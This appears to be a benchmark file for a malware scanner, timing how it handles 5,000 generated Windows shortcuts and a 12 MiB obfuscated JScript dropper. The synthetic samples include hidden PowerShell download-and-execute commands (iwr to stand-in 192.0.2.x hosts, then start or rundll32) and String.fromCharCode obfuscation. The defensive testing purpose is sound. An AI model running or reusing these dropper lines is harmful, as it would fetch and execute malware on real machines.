/**
 * In-process throughput of the shortcut and script engines through `scanInput`: 5,000 shortcuts (padded
 * cmd/PowerShell command lines, findstr carriers, plain program links) and a 12 MiB obfuscated JScript
 * dropper (String.fromCharCode and split/join junk). Measures items/s, MB/s and the peak RSS.
 */
import { scanInput } from '../src/pipeline/index.js';
import { buildEmotetFindstrLnk, buildLnk, buildPowerShellLnk } from '../test/builders/lnk.js';
import { benchResult, MB, startRssSampler, type BenchResult } from './lib.js';

export const name = 'lnk-script';

function obfuscatedScript(size: number): Uint8Array {
  const line = (i: number) =>
    `var v${i} = String.fromCharCode(${[...'WScript.Shell'].map((c) => c.charCodeAt(0)).join(',')}) + "aXbXcXd".split("X").join("") + '\\x70\\x6f\\x77';\n`;
  // The ActiveX line first: content sniffing reads the first 64 KiB to call the file a script.
  const parts: string[] = ['var s = new ActiveXObject(v1);\n'];
  let total = 0;
  for (let i = 0; total < size; i++) {
    const l = line(i);
    parts.push(l);
    total += l.length;
  }
  parts.push(
    's.Run("powershell -w hidden -c iwr http://192.0.2.9/x -OutFile x.exe; start x.exe", 0);\n',
  );
  return new TextEncoder().encode(parts.join(''));
}

export async function run(): Promise<BenchResult> {
  const links = Array.from({ length: 5000 }, (_, i) =>
    i % 3 === 0
      ? buildEmotetFindstrLnk()
      : i % 3 === 1
        ? buildPowerShellLnk(
            `iwr http://192.0.2.${i % 250}/a.dll -OutFile a.dll; rundll32 a.dll,Run`,
          )
        : buildLnk({ target: 'C:\\Program Files\\App\\app.exe', arguments: `--profile ${i}` }),
  );
  const script = obfuscatedScript(12 * MB);
  const rss = startRssSampler();
  const started = process.hrtime.bigint();
  let bytes = 0;
  let malicious = 0;
  for (const [i, link] of links.entries()) {
    const r = await scanInput({ path: `l${i}.lnk`, bytes: link });
    if (r.verdict === 'malicious') malicious++;
    bytes += link.length;
  }
  const lnkSeconds = Number(process.hrtime.bigint() - started) / 1e9;
  const scriptStart = process.hrtime.bigint();
  const s = await scanInput({ path: 'dropper.js', bytes: script });
  const scriptSeconds = Number(process.hrtime.bigint() - scriptStart) / 1e9;
  bytes += script.length;
  return benchResult({
    name,
    items: links.length + 1,
    bytes,
    seconds: lnkSeconds + scriptSeconds,
    peakRssMb: rss.stop(),
    notes: `${links.length} shortcuts in ${lnkSeconds.toFixed(2)} s (${(links.length / lnkSeconds).toFixed(0)}/s, ${malicious} malicious); 12 MiB script in ${scriptSeconds.toFixed(2)} s (${(script.length / MB / scriptSeconds).toFixed(1)} MB/s, ${s.verdict}, ${s.findings.map((f) => f.id).join(' ')})`,
  });
}
